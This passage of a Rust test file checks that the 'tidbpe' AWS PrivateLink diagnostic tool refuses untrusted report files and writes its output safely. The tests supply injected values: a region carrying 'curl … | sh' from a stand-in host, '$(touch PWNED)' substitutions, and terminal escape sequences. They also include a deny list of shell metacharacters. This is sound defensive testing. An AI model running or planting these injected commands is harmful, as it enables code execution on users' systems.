//! A report from a stranger is untrusted input, and a written report is
//! kept safe (issue 9): `tidbpe analyze` refuses what it cannot read safely
//! (exit 2, one line, in bounded time and memory), validates every value a
//! command or verdict is built from, prints no control character; `--output`
//! replaces its file atomically, privately, after checking the directory
//! before any network call.
//!
//! These tests need no lab: the reports are written here, and the only
//! servers are listeners on loopback.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::common;

/// `tidbpe` with an environment that reaches nothing but loopback, and no
/// standard input.
fn tidbpe() -> Command {
    let mut cmd = common::tidbpe_isolated();
    cmd.stdin(Stdio::null());
    cmd
}

/// A finished run, and how long it took.
struct Run {
    code: i32,
    stdout: Vec<u8>,
    stderr: String,
    took: Duration,
}

impl Run {
    fn stdout(&self) -> String {
        String::from_utf8_lossy(&self.stdout).into_owned()
    }
    fn json(&self) -> Value {
        serde_json::from_slice(&self.stdout).unwrap_or_else(|e| {
            panic!(
                "stdout is not one JSON document ({e}):\n{}\nstderr: {}",
                self.stdout(),
                self.stderr
            )
        })
    }
    /// Exit 2 with one line on stderr that contains `needle`, nothing on stdout.
    fn refused(&self, needle: &str) {
        assert_eq!(self.code, 2, "stderr: {}", self.stderr);
        assert!(
            self.stderr.contains(needle),
            "stderr lacks {needle:?}: {}",
            self.stderr
        );
        assert_eq!(self.stderr.trim_end().lines().count(), 1, "{}", self.stderr);
        assert!(self.stdout.is_empty(), "stdout: {}", self.stdout());
    }
}

/// Run `cmd` for at most [`LIMIT`]: a run still going then is killed (by
/// its PID) and the test fails.
fn run_cmd(cmd: &mut Command) -> Run {
    let start = Instant::now();
    let mut child = cmd
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run tidbpe");
    let drain = |mut pipe: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut bytes = Vec::new();
            let _ = pipe.read_to_end(&mut bytes);
            bytes
        })
    };
    let stdout = drain(Box::new(child.stdout.take().expect("stdout")));
    let stderr = drain(Box::new(child.stderr.take().expect("stderr")));
    let status = loop {
        if let Some(status) = child.try_wait().expect("wait") {
            break status;
        }
        if start.elapsed() > LIMIT {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{cmd:?} still ran after {LIMIT:?}: killed");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    Run {
        code: status.code().unwrap_or(-1),
        stdout: stdout.join().expect("stdout reader"),
        stderr: String::from_utf8_lossy(&stderr.join().expect("stderr reader")).into_owned(),
        took: start.elapsed(),
    }
}

/// The longest any run here may take (the slowest expected is a few seconds).
const LIMIT: Duration = Duration::from_secs(30);

/// `tidbpe analyze ARGS…` under a 1 GiB address-space limit: a reader that
/// grows without bound dies instead of passing.
fn analyze(args: &[&str]) -> Run {
    let mut cmd = Command::new("sh");
    cmd.arg("-c")
        .arg("ulimit -v 1048576 && exec \"$0\" analyze \"$@\"")
        .arg(env!("CARGO_BIN_EXE_tidbpe"))
        .args(args);
    let base = tidbpe();
    for (k, v) in base.get_envs() {
        match v {
            Some(v) => cmd.env(k, v),
            None => cmd.env_remove(k),
        };
    }
    cmd.stdin(Stdio::null());
    run_cmd(&mut cmd)
}

/// A private scratch directory, removed at the end.
struct Scratch(PathBuf);

impl Scratch {
    fn new(name: &str) -> Scratch {
        let dir =
            std::env::temp_dir().join(format!("tidbpe-untrusted-{name}-{}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir_all(&dir).expect("scratch dir");
        Scratch(dir)
    }
    fn path(&self, name: &str) -> PathBuf {
        self.0.join(name)
    }
    fn write(&self, name: &str, bytes: impl AsRef<[u8]>) -> String {
        let path = self.path(name);
        fs::write(&path, bytes).expect("write scratch file");
        path.to_string_lossy().into_owned()
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

const VPC: &str = "vpc-631e6cf79eb15542c";
const SVC: &str = "com.amazonaws.vpce.us-east-1.vpce-svc-89f10f89";
const HOST: &str = "gateway01-privatelink.us-east-1.prod.aws.tidbcloud.com";

/// A report as `tidbpe doctor` writes it (the facts of the lab's
/// hosted-zone-shadow world, DNS hostnames off), with fix commands to
/// print: VPC002's modify-vpc-attribute, VPC004's disassociation.
fn report() -> Value {
    let sg_all_out = json!([{"protocol": "-1", "from_port": null, "to_port": null, "peer": {"cidr": "0.0.0.0/0"}}]);
    let acl = |egress: bool| {
        json!([
            {"rule_number": 100, "egress": egress, "protocol": "-1", "allow": true, "cidr": "0.0.0.0/0", "port_range": null},
            {"rule_number": 32767, "egress": egress, "protocol": "-1", "allow": false, "cidr": "0.0.0.0/0", "port_range": null}
        ])
    };
    let mut entries = acl(true);
    entries
        .as_array_mut()
        .unwrap()
        .extend(acl(false).as_array().unwrap().iter().cloned());
    json!({
        "schema": "tidbpe.report/v1",
        "tool": {"name": "tidbpe", "version": "0.0.9"},
        "generated_at": "2020-01-02T03:04:05Z",
        "inputs": {},
        "context": {},
        "summary": {},
        "findings": [],
        "facts": {
            "inputs": {"service_name": SVC, "az_ids": [], "region": "us-east-1", "host": HOST,
                       "port": 4000, "vpc_id": VPC, "instance_id": "i-4fbb3c5d66e144ee1", "deselected": {}},
            "identity": {"Ok": {"account": "123456789012", "arn": "arn:aws:sts::123456789012:user/moto"}},
            "service": {"Ok": {"service_name": SVC, "service_id": "vpce-svc-89f10f89", "service_type": ["Interface"],
                               "availability_zones": ["us-east-1b", "us-east-1c"], "private_dns_names": [HOST],
                               "owner": "123456789012"}},
            "zones": {"Ok": [{"zone_name": "us-east-1a", "zone_id": "use1-az6"},
                             {"zone_name": "us-east-1b", "zone_id": "use1-az1"},
                             {"zone_name": "us-east-1c", "zone_id": "use1-az2"}]},
            "vpc_choice": {"vpc_id": VPC, "source": "flag"},
            "client": {"Ok": {"source": "instance-id", "instance_id": "i-4fbb3c5d66e144ee1", "vpc_id": VPC,
                              "subnet_id": "subnet-60823194f4b6191a3", "availability_zone": "us-east-1b",
                              "az_id": "use1-az1", "private_ip": "10.0.10.4",
                              "security_group_ids": ["sg-6b04cb89de0e30cdf"]}},
            "vpc": {"Ok": {"vpc_id": VPC, "cidr_blocks": ["10.0.0.0/16"], "dhcp_options_id": "dopt-36bba84a17f2d7604"}},
            "dns_support": {"Ok": true},
            "dns_hostnames": {"Ok": false},
            "dhcp_options": {"Ok": {"dhcp_options_id": "dopt-36bba84a17f2d7604", "domain_name_servers": ["AmazonProvidedDNS"]}},
            "hosted_zones": {"Ok": [{"id": "KSM3XHXRVD1PJW5K4KN1BF", "name": "tidbcloud.com."}]},
            // Private DNS off and no record for the host: the zone answers
            // NXDOMAIN, and VPC004's fix is a change batch in quotes.
            "hosted_zone_records": {"Ok": [{"zone_id": "KSM3XHXRVD1PJW5K4KN1BF", "records": []}]},
            "endpoints": {"Ok": [{"endpoint_id": "vpce-102943203ddbae83e", "vpc_id": VPC, "service_name": SVC,
                                  "endpoint_type": "Interface", "state": "available", "private_dns_enabled": false,
                                  "dns_entries": [{"dns_name": "vpce-102943203ddbae83e-x1y2z3a4.vpce-svc-0a1b2c3d4e5f60718.us-east-1.vpce.amazonaws.com",
                                                   "hosted_zone_id": "Z7HUB22UULQXV"}],
                                  "subnet_ids": ["subnet-e1cbab57fcb6533fb", "subnet-da95321e423a134a4"],
                                  "security_group_ids": ["sg-88537d3bcfb25b0b5"],
                                  "network_interface_ids": ["eni-048d44f408e355f19", "eni-09409afc50df3bee1"]}]},
            "subnets": {"Ok": [
                {"subnet_id": "subnet-e1cbab57fcb6533fb", "vpc_id": VPC, "availability_zone": "us-east-1b", "az_id": "use1-az1", "cidr_block": "10.0.1.0/24"},
                {"subnet_id": "subnet-da95321e423a134a4", "vpc_id": VPC, "availability_zone": "us-east-1c", "az_id": "use1-az2", "cidr_block": "10.0.2.0/24"},
                {"subnet_id": "subnet-60823194f4b6191a3", "vpc_id": VPC, "availability_zone": "us-east-1b", "az_id": "use1-az1", "cidr_block": "10.0.10.0/24"}]},
            "endpoint_interfaces": {"Ok": [
                {"network_interface_id": "eni-048d44f408e355f19", "subnet_id": "subnet-e1cbab57fcb6533fb", "availability_zone": "us-east-1b", "private_ip": "10.0.1.248", "security_group_ids": ["sg-88537d3bcfb25b0b5"]},
                {"network_interface_id": "eni-09409afc50df3bee1", "subnet_id": "subnet-da95321e423a134a4", "availability_zone": "us-east-1c", "private_ip": "10.0.2.41", "security_group_ids": ["sg-88537d3bcfb25b0b5"]}]},
            "security_groups": {"Ok": [
                {"group_id": "sg-6b04cb89de0e30cdf", "group_name": "client-sg", "vpc_id": VPC, "ingress": [], "egress": sg_all_out},
                {"group_id": "sg-88537d3bcfb25b0b5", "group_name": "endpoint-sg", "vpc_id": VPC,
                 "ingress": [{"protocol": "tcp", "from_port": 4000, "to_port": 4000, "peer": {"group": "sg-6b04cb89de0e30cdf"},
                              "description": "from the client"}],
                 "egress": sg_all_out}]},
            "prefix_lists": {"Ok": []},
            "network_acls": {"Ok": [{"network_acl_id": "acl-fd05b33cb0012e860", "is_default": true,
                                     "subnet_ids": ["subnet-e1cbab57fcb6533fb", "subnet-da95321e423a134a4", "subnet-60823194f4b6191a3"],
                                     "entries": entries}]},
            "timings_ms": {"sts:GetCallerIdentity": 107}
        }
    })
}

fn text(v: &Value) -> String {
    serde_json::to_string_pretty(v).expect("serialize")
}

/// Every fix command of a JSON report, one a line.
fn commands(report: &Value) -> Vec<String> {
    report["findings"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|f| f["fix"]["commands"].as_array().cloned().unwrap_or_default())
        .filter_map(|c| c.as_str().map(str::to_string))
        .collect()
}

/// Bytes a terminal acts on, and characters a shell acts on, that no
/// printed command of ours needs.
fn assert_safe_commands(report: &Value) {
    let cmds = commands(report);
    assert!(!cmds.is_empty(), "the test report must have fix commands");
    for c in cmds {
        for bad in [
            ";", "$", "`", "|", "&", ">", "<", "\n", "\u{1b}", "\u{7}", "#",
        ] {
            assert!(!c.contains(bad), "{bad:?} in a printed command: {c}");
        }
    }
}

#[test]
fn the_untouched_report_replays() {
    let dir = Scratch::new("plain");
    let path = dir.write("r.json", text(&report()));
    let run = analyze(&["--format", "json", &path]);
    assert_eq!(run.code, 1, "stderr: {}", run.stderr);
    let out = run.json();
    let failed: Vec<&str> = out["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["status"] == "fail")
        .filter_map(|f| f["id"].as_str())
        .collect();
    assert_eq!(failed, ["VPC002", "VPC004", "EP003"], "{}", run.stdout());
    assert_safe_commands(&out);
}

#[test]
fn shell_code_in_the_region_is_refused_naming_its_path() {
    let mut r = report();
    r["facts"]["inputs"]["region"] = json!("us-east-1; curl -s https://x.invalid/p | sh #");
    let dir = Scratch::new("region");
    let path = dir.write("r.json", text(&r));
    for format in ["human", "json"] {
        analyze(&["--format", format, &path])
            .refused("facts.inputs.region: not an AWS region (such as us-east-1)");
    }
}

#[test]
fn shell_code_in_a_vpc_id_is_refused_naming_its_path() {
    let mut r = report();
    r["facts"]["vpc_choice"]["vpc_id"] = json!("vpc-0a1b2c3d$(touch PWNED)");
    let dir = Scratch::new("vpcid");
    let path = dir.write("r.json", text(&r));
    analyze(&[&path]).refused("facts.vpc_choice.vpc_id: not a VPC ID");

    let mut r = report();
    r["facts"]["hosted_zones"]["Ok"][0]["id"] = json!("Z1 --vpc VPCId=vpc-1;id");
    let path = dir.write("z.json", text(&r));
    analyze(&[&path]).refused("facts.hosted_zones.Ok[0].id: not a hosted zone ID");
}

#[test]
fn terminal_control_in_free_text_never_reaches_the_output() {
    let mut r = report();
    r["facts"]["identity"]["Ok"]["arn"] =
        json!("arn:aws:sts::123456789012:user/\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m");
    r["facts"]["security_groups"]["Ok"][1]["ingress"][0]["description"] =
        json!("$(touch PWNED); `id` \u{1b}[1A");
    r["facts"]["hosted_zones"]["Ok"][0]["name"] = json!("tidbcloud.com.");
    r["facts"]["timings_ms"] = json!({"sts:GetCallerIdentity\u{1b}[2J": 1});
    let dir = Scratch::new("control");
    let path = dir.write("r.json", text(&r));
    for format in ["human", "json"] {
        let run = analyze(&["--format", format, &path]);
        assert_eq!(run.code, 1, "{format}: {}", run.stderr);
        for (what, bytes) in [
            ("stdout", &run.stdout),
            ("stderr", &run.stderr.as_bytes().to_vec()),
        ] {
            for bad in [0x1b_u8, 0x07] {
                assert!(
                    !bytes.contains(&bad),
                    "{format}: byte {bad:#x} on {what}:\n{}",
                    String::from_utf8_lossy(bytes)
                );
            }
            assert!(
                !String::from_utf8_lossy(bytes).contains('\u{9b}'),
                "{format}: CSI on {what}"
            );
        }
        if format == "json" {
            let out = run.json();
            assert_safe_commands(&out);
            let arn = out["facts"]["identity"]["Ok"]["arn"].as_str().unwrap();
            assert_eq!(arn, "arn:aws:sts::123456789012:user/]0;owned[2J31m");
        }
    }
}

#[test]
fn dev_zero_a_fifo_and_a_directory_are_refused_at_once() {
    let run = analyze(&["/dev/zero"]);
    run.refused("/dev/zero is a character device: expected a regular file");
    assert!(run.took < Duration::from_secs(3), "{:?}", run.took);

    let dir = Scratch::new("fifo");
    let fifo = dir.path("report.fifo");
    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(made.success());
    let run = analyze(&[fifo.to_str().unwrap()]);
    run.refused("is a FIFO (named pipe): expected a regular file");
    assert!(run.took < Duration::from_secs(3), "{:?}", run.took);

    let run = analyze(&[dir.0.to_str().unwrap()]);
    run.refused("is a directory: expected a regular file");
}

#[test]
fn an_oversized_report_is_refused_in_bounded_time_and_memory() {
    let dir = Scratch::new("big");
    // 11 MB of a valid report: padding inside the facts' free text.
    let mut r = report();
    let pad: Vec<Value> = (0..2_800).map(|_| json!("x".repeat(4000))).collect();
    r["facts"]["service"]["Ok"]["private_dns_names"] = json!(pad);
    let path = dir.write("big.json", text(&r));
    assert!(fs::metadata(&path).unwrap().len() > 11_000_000);
    let run = analyze(&[&path]);
    run.refused("is larger than 10 MiB: refused");
    assert!(run.took < Duration::from_secs(3), "{:?}", run.took);

    // The same through standard input, which has no size to look at.
    let mut cmd = Command::new("sh");
    cmd.arg("-c")
        .arg("ulimit -v 1048576 && exec \"$0\" analyze - < /dev/zero")
        .arg(env!("CARGO_BIN_EXE_tidbpe"));
    let run = run_cmd(&mut cmd);
    run.refused("standard input is larger than 10 MiB: refused");
    assert!(run.took < Duration::from_secs(3), "{:?}", run.took);
}

#[test]
fn a_one_megabyte_string_is_refused_in_bounded_time() {
    let dir = Scratch::new("longstring");
    for (field, path) in [
        ("host", "facts.inputs.host"),
        ("region", "facts.inputs.region"),
    ] {
        let mut r = report();
        r["facts"]["inputs"][field] = json!(format!("{}.example.com", "a".repeat(1_000_000)));
        let file = dir.write("long.json", text(&r));
        let run = analyze(&[&file]);
        run.refused(&format!("{path}: a string of more than 4096 bytes"));
        assert!(run.took < Duration::from_secs(3), "{:?}", run.took);
    }
    // Free text too: an ARN of 1 MB.
    let mut r = report();
    r["facts"]["identity"]["Ok"]["arn"] = json!("arn:".repeat(250_000));
    let file = dir.write("arn.json", text(&r));
    let run = analyze(&[&file]);
    run.refused("facts.identity.Ok.arn: a string of more than 4096 bytes");
    assert!(run.took < Duration::from_secs(3), "{:?}", run.took);
}

#[test]
fn a_utf8_bom_is_read_and_utf16_is_named() {
    let dir = Scratch::new("bom");
    let body = text(&report());
    let mut with_bom = vec![0xEF, 0xBB, 0xBF];
    with_bom.extend_from_slice(body.as_bytes());
    let path = dir.write("bom.json", with_bom);
    let run = analyze(&["--format", "json", &path]);
    assert_eq!(run.code, 1, "stderr: {}", run.stderr);
    run.json();

    // What PowerShell's `>` writes: UTF-16LE with a byte-order mark.
    let mut utf16 = vec![0xFF, 0xFE];
    for unit in body.encode_utf16() {
        utf16.extend_from_slice(&unit.to_le_bytes());
    }
    let path = dir.write("utf16.json", &utf16);
    analyze(&[&path]).refused("is UTF-16 text (as PowerShell's `>` writes it)");
    // And without the mark.
    let path = dir.write("utf16-nobom.json", &utf16[2..]);
    analyze(&[&path]).refused("is UTF-16 text");
}

#[test]
fn parse_errors_name_the_field() {
    let dir = Scratch::new("parse");
    let mut r = report();
    r["facts"]["inputs"]["port"] = json!("4000");
    let path = dir.write("r.json", text(&r));
    analyze(&[&path]).refused("facts.inputs.port: invalid type: string \"4000\", expected u16");
    let path = dir.write("g.json", "garbage");
    analyze(&[&path]).refused("is not JSON");
    let path = dir.write("o.json", r#"{"schema": "tidbpe.report/v9"}"#);
    analyze(&[&path]).refused("has schema tidbpe.report/v9; this tidbpe reads tidbpe.report/v1");
}

#[test]
fn analyze_keeps_when_and_by_what_the_facts_were_gathered() {
    let dir = Scratch::new("gathered");
    let path = dir.write("r.json", text(&report()));
    let out = analyze(&["--format", "json", &path]).json();
    assert_eq!(out["generated_at"], "2020-01-02T03:04:05Z");
    assert_eq!(out["tool"]["version"], "0.0.9");
    assert_eq!(out["judged_by"]["version"], env!("CARGO_PKG_VERSION"));
    let judged_at = out["judged_at"].as_str().expect("judged_at");
    assert!(judged_at > "2025", "{judged_at}");

    let human = analyze(&["--format", "human", &path]);
    let line = format!(
        "facts by tidbpe 0.0.9 at 2020-01-02T03:04:05Z, judged by tidbpe {} at {}",
        env!("CARGO_PKG_VERSION"),
        &judged_at[..4]
    );
    assert!(human.stdout().contains(&line), "{}", human.stdout());

    let mut r = report();
    r["generated_at"] = json!("yesterday\u{1b}[2J");
    let path = dir.write("t.json", text(&r));
    analyze(&[&path]).refused("generated_at: not an RFC 3339 time");
}

#[test]
fn output_is_private_and_replaces_a_symlink_not_its_target() {
    let dir = Scratch::new("output");
    let report_path = dir.write("in.json", text(&report()));
    let out = dir.path("out.json");
    let run = analyze(&[&report_path, "--output", out.to_str().unwrap()]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let mode = fs::metadata(&out).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600, "mode {mode:o}");
    let written: Value = serde_json::from_str(&fs::read_to_string(&out).unwrap()).unwrap();
    assert_eq!(written["schema"], "tidbpe.report/v1");

    let target = dir.path("precious.txt");
    fs::write(&target, "keep me").unwrap();
    let link = dir.path("link.json");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let run = analyze(&[&report_path, "--output", link.to_str().unwrap()]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(fs::read_to_string(&target).unwrap(), "keep me");
    assert!(!fs::symlink_metadata(&link)
        .unwrap()
        .file_type()
        .is_symlink());

    let other = dir.path("other-name.json");
    fs::write(&other, "old").unwrap();
    let hard = dir.path("hard.json");
    fs::hard_link(&other, &hard).unwrap();
    analyze(&[&report_path, "--output", hard.to_str().unwrap()]);
    assert_eq!(fs::read_to_string(&other).unwrap(), "old");

    let leftovers: Vec<_> = fs::read_dir(&dir.0)
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

#[test]
fn output_to_standard_output_prints_one_document() {
    let dir = Scratch::new("stdout");
    let path = dir.write("r.json", text(&report()));
    for args in [
        vec!["--format", "json", "--output", "-"],
        vec!["--output", "-"],
        vec!["--format", "json", "--output", "/dev/stdout"],
    ] {
        let mut all = vec![path.as_str()];
        all.extend(args.iter().copied());
        let run = analyze(&all);
        assert_eq!(run.code, 1, "{args:?}: {}", run.stderr);
        let doc = run.json();
        assert_eq!(doc["schema"], "tidbpe.report/v1", "{args:?}");
    }
    analyze(&[&path, "--format", "human", "--output", "-"])
        .refused("--output: the JSON report would go to standard output");
}

/// A small file system of its own (root only), unmounted at the end.
struct Tmpfs {
    dir: Scratch,
}

impl Tmpfs {
    fn mount(name: &str, options: &str) -> Option<Tmpfs> {
        if !is_root() {
            eprintln!("skipped: mounting a tmpfs needs root");
            return None;
        }
        let dir = Scratch::new(name);
        let status = Command::new("mount")
            .args(["-t", "tmpfs", "-o", options, "tidbpe-test"])
            .arg(&dir.0)
            .status()
            .expect("run mount");
        assert!(status.success(), "mount -t tmpfs failed as root");
        Some(Tmpfs { dir })
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.dir.0).status();
    }
}

fn is_root() -> bool {
    Command::new("id")
        .arg("-u")
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim() == "0")
        .unwrap_or(false)
}

#[test]
fn a_failed_write_leaves_the_old_report_whole() {
    let source = Scratch::new("fullsrc");
    let report_path = source.write("in.json", text(&report()));
    let Some(fs_) = Tmpfs::mount("full", "size=64k") else {
        return;
    };
    let out = fs_.dir.path("report.json");
    let old = "{\"old\": true}\n";
    fs::write(&out, old).unwrap();
    // Fill the rest: the new report (about 20 KB) cannot fit.
    let mut filler = fs::File::create(fs_.dir.path("filler")).unwrap();
    let block = vec![b'x'; 4096];
    while filler.write_all(&block).is_ok() {}
    let _ = filler.sync_all();
    drop(filler);

    let run = analyze(&[&report_path, "--output", out.to_str().unwrap()]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(
        run.stderr.contains("No space left on device"),
        "{}",
        run.stderr
    );
    assert_eq!(fs::read_to_string(&out).unwrap(), old);
    let names: Vec<String> = fs::read_dir(&fs_.dir.0)
        .unwrap()
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names.len(), 2, "a temporary file stayed: {names:?}");
}

#[test]
fn an_unwritable_directory_is_refused_before_any_call() {
    let Some(ro) = Tmpfs::mount("readonly", "ro,size=64k") else {
        return;
    };
    // An AWS API that accepts connections and never answers: a run that
    // called it would take the whole --timeout.
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    listener.set_nonblocking(true).expect("nonblocking");
    let endpoint = format!("http://{}", listener.local_addr().unwrap());
    let out = ro.dir.path("report.json");
    let mut cmd = tidbpe();
    cmd.env("AWS_ENDPOINT_URL", &endpoint).args([
        "doctor",
        "--service-name",
        SVC,
        "--vpc-id",
        VPC,
        "--timeout",
        "10",
        "--output",
        out.to_str().unwrap(),
    ]);
    let run = run_cmd(&mut cmd);
    run.refused("cannot create a file in");
    assert!(run.took < Duration::from_secs(2), "{:?}", run.took);
    assert!(
        listener.accept().is_err(),
        "the doctor called the AWS API before checking --output"
    );
}

#[test]
fn usage_errors_name_the_missing_argument_and_cut_long_values() {
    for (args, name) in [
        (vec!["analyze"], "<REPORT.json>"),
        (vec!["explain"], "<ID>"),
        (vec!["completions"], "<SHELL>"),
    ] {
        let run = run_cmd(tidbpe().args(&args));
        run.refused(name);
    }
    let long = "x".repeat(100_000);
    let run = run_cmd(tidbpe().args(["doctor", "--vpc-id", &long]));
    assert_eq!(run.code, 2);
    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
    assert!(run.stderr.len() < 400, "{} bytes", run.stderr.len());
    assert!(run.stderr.contains("--vpc-id"), "{}", run.stderr);
    let run = run_cmd(tidbpe().args(["explain", &format!("A\u{1b}[2J{long}")]));
    assert_eq!(run.code, 2);
    assert!(
        run.stderr.len() < 400 && !run.stderr.contains('\u{1b}'),
        "{}",
        run.stderr
    );
}

#[test]
fn a_failing_credential_process_does_not_fill_the_report() {
    let dir = Scratch::new("credproc");
    // Prints 100 KB and a screen-clearing escape on stderr, then fails.
    let config = dir.write(
        "config",
        "[default]\ncredential_process = sh -c \"head -c 100000 /dev/zero | tr '\\\\000' x >&2; printf '\\\\033[2J' >&2; exit 1\"\n",
    );
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let endpoint = format!("http://{}", listener.local_addr().unwrap());
    drop(listener); // refused: no call gets further than the credentials
    let mut cmd = tidbpe();
    cmd.env_remove("AWS_ACCESS_KEY_ID")
        .env_remove("AWS_SECRET_ACCESS_KEY")
        .env("AWS_CONFIG_FILE", &config)
        .env("AWS_ENDPOINT_URL", &endpoint)
        .args([
            "doctor",
            "--service-name",
            SVC,
            "--vpc-id",
            VPC,
            "--timeout",
            "10",
            "--format",
            "json",
        ]);
    let run = run_cmd(&mut cmd);
    let report = run.json();
    let err = &report["facts"]["identity"]["Err"];
    let message = err["message"].as_str().unwrap_or_else(|| panic!("{err}"));
    assert!(
        message.contains("xxxx"),
        "the test must reach the process's output: {message}"
    );
    assert!(
        message.chars().count() <= 300,
        "{} chars",
        message.chars().count()
    );
    assert!(!message.contains('\u{1b}'), "{message}");
    assert!(
        run.stdout.len() < 40_000,
        "{} bytes of report",
        run.stdout.len()
    );
}

/// `--output` naming a FIFO that nobody reads: opening it for writing would
/// wait for a reader forever, past any `--timeout`. Refused at once.
#[test]
fn an_output_fifo_without_a_reader_is_refused_at_once() {
    let dir = Scratch::new("out-fifo");
    let fifo = dir.path("report.fifo");
    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(made.success());
    let mut cmd = tidbpe();
    cmd.env("AWS_ENDPOINT_URL", "http://127.0.0.1:9").args([
        "doctor",
        "--service-name",
        SVC,
        "--vpc-id",
        VPC,
        "--timeout",
        "2",
        "--output",
        fifo.to_str().unwrap(),
    ]);
    let run = run_cmd(&mut cmd);
    run.refused("--output");
    assert!(run.stderr.contains("reader"), "{}", run.stderr);
    assert!(run.took < Duration::from_secs(3), "{:?}", run.took);
}

/// `--cluster-json -` with a writer that never writes (a `ticloud` that
/// waits for a login): the run still ends within `--timeout`.
#[test]
fn cluster_json_from_a_silent_standard_input_ends_within_the_timeout() {
    let mut cmd = tidbpe();
    cmd.env("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
        .stdin(Stdio::piped())
        .args(["doctor", "--cluster-json", "-", "--timeout", "1"]);
    // run_cmd keeps the child's standard input open (and empty) until it ends.
    let run = run_cmd(&mut cmd);
    run.refused("--cluster-json");
    assert!(run.took < Duration::from_secs(3), "{:?}", run.took);
}

/// A client address no client has (unspecified, loopback, multicast) would
/// put `--cidr 0.0.0.0/32` in a fix: refused as the command line refuses it.
#[test]
fn a_report_with_a_client_address_no_client_has_is_refused() {
    let dir = Scratch::new("client-ip");
    for ip in ["0.0.0.0", "::", "127.0.0.1", "224.0.0.5"] {
        let mut r = report();
        r["facts"]["inputs"]["client_ip"] = json!(ip);
        let path = dir.write("r.json", text(&r));
        analyze(&[&path]).refused("facts.inputs.client_ip");
    }
}

/// A denied call's `action` is printed in the fix ("Allow … to the
/// identity running tidbpe"): a report must not choose what it says.
#[test]
fn a_failed_call_in_a_report_names_only_a_call_the_doctor_makes() {
    let dir = Scratch::new("action");
    for action in ["iam:* on Resource *", "ec2:DescribeVpcs; curl x | sh"] {
        let mut r = report();
        r["facts"]["vpc"] = json!({"Err": {"kind": "access-denied", "action": action,
                                           "code": "UnauthorizedOperation", "message": "denied"}});
        let path = dir.write("r.json", text(&r));
        analyze(&[&path]).refused("facts.vpc.Err.action");
    }
    // The calls the doctor makes still replay.
    let mut r = report();
    r["facts"]["vpc"] = json!({"Err": {"kind": "access-denied", "action": "ec2:DescribeVpcs",
                                       "code": "UnauthorizedOperation", "message": "denied"}});
    let path = dir.write("r.json", text(&r));
    let run = analyze(&["--format", "json", &path]);
    assert_eq!(run.code, 1, "{}", run.stderr);
}

/// `--output` naming the `--cluster-json` file would replace the cluster's
/// description with the report: refused before anything is written.
#[test]
fn output_never_replaces_the_cluster_description() {
    let dir = Scratch::new("same-file");
    let cluster = json!({
        "clusterId": "10058425682284910921",
        "endpoints": {"private": {"aws": {"availabilityZone": ["use1-az1"], "serviceName": SVC},
                                  "host": HOST, "port": 4000}},
        "region": {"cloudProvider": "aws", "regionId": "aws-us-east-1"},
        "state": "ACTIVE"
    });
    let path = dir.write("cluster.json", text(&cluster));
    let link = dir.path("link.json");
    std::os::unix::fs::symlink(&path, &link).expect("symlink");
    for (input, output) in [
        (&path, &path),
        (&link.to_string_lossy().into_owned(), &path),
    ] {
        let mut cmd = tidbpe();
        cmd.env("AWS_ENDPOINT_URL", "http://127.0.0.1:9").args([
            "doctor",
            "--cluster-json",
            input,
            "--timeout",
            "2",
            "--output",
            output,
        ]);
        run_cmd(&mut cmd).refused("--cluster-json");
        assert_eq!(
            fs::read_to_string(&path).expect("cluster file"),
            text(&cluster)
        );
    }
}

/// Lists the checks compare with each other (zone names with the service's
/// AZs, the endpoint's subnets with the VPC's, DNS answers with each
/// other) are bounded: 150,000 zones kept `analyze` busy for minutes, 20,000
/// DNS answers for seconds. Refused at once, naming the list.
#[test]
fn long_lists_are_refused_in_bounded_time() {
    let dir = Scratch::new("long-lists");
    let mut zones = report();
    zones["facts"]["zones"]["Ok"] = (0..150_000)
        .map(|i| json!({"zone_name": format!("us-east-1-z{i}"), "zone_id": format!("use1-zz{i}")}))
        .collect();
    zones["facts"]["service"]["Ok"]["availability_zones"] = (0..75_000)
        .map(|i| json!(format!("us-east-1-z{}", 2 * i)))
        .collect();
    let mut subnets = report();
    subnets["facts"]["endpoints"]["Ok"][0]["subnet_ids"] = (0..30_000)
        .map(|i| json!(format!("subnet-{i:08x}")))
        .collect();
    let mut answers = report();
    let addresses: Vec<Value> = (0..20_000)
        .map(|i| json!(format!("10.0.{}.{}", i / 256 % 256, i % 256)))
        .collect();
    answers["facts"]["probes"] = json!({
        "vantage": {"probed": true, "reason": {"kind": "probe-flag"}},
        "dns": {"name": format!("{HOST}."), "resolver": {"source": "system", "servers": []},
                "a": {"ms": 1, "answer": {"outcome": "addresses", "addresses": addresses}},
                "aaaa": {"ms": 1, "answer": {"outcome": "no-records"}}}
    });
    for (r, path) in [
        (zones, "facts.service.Ok.availability_zones"),
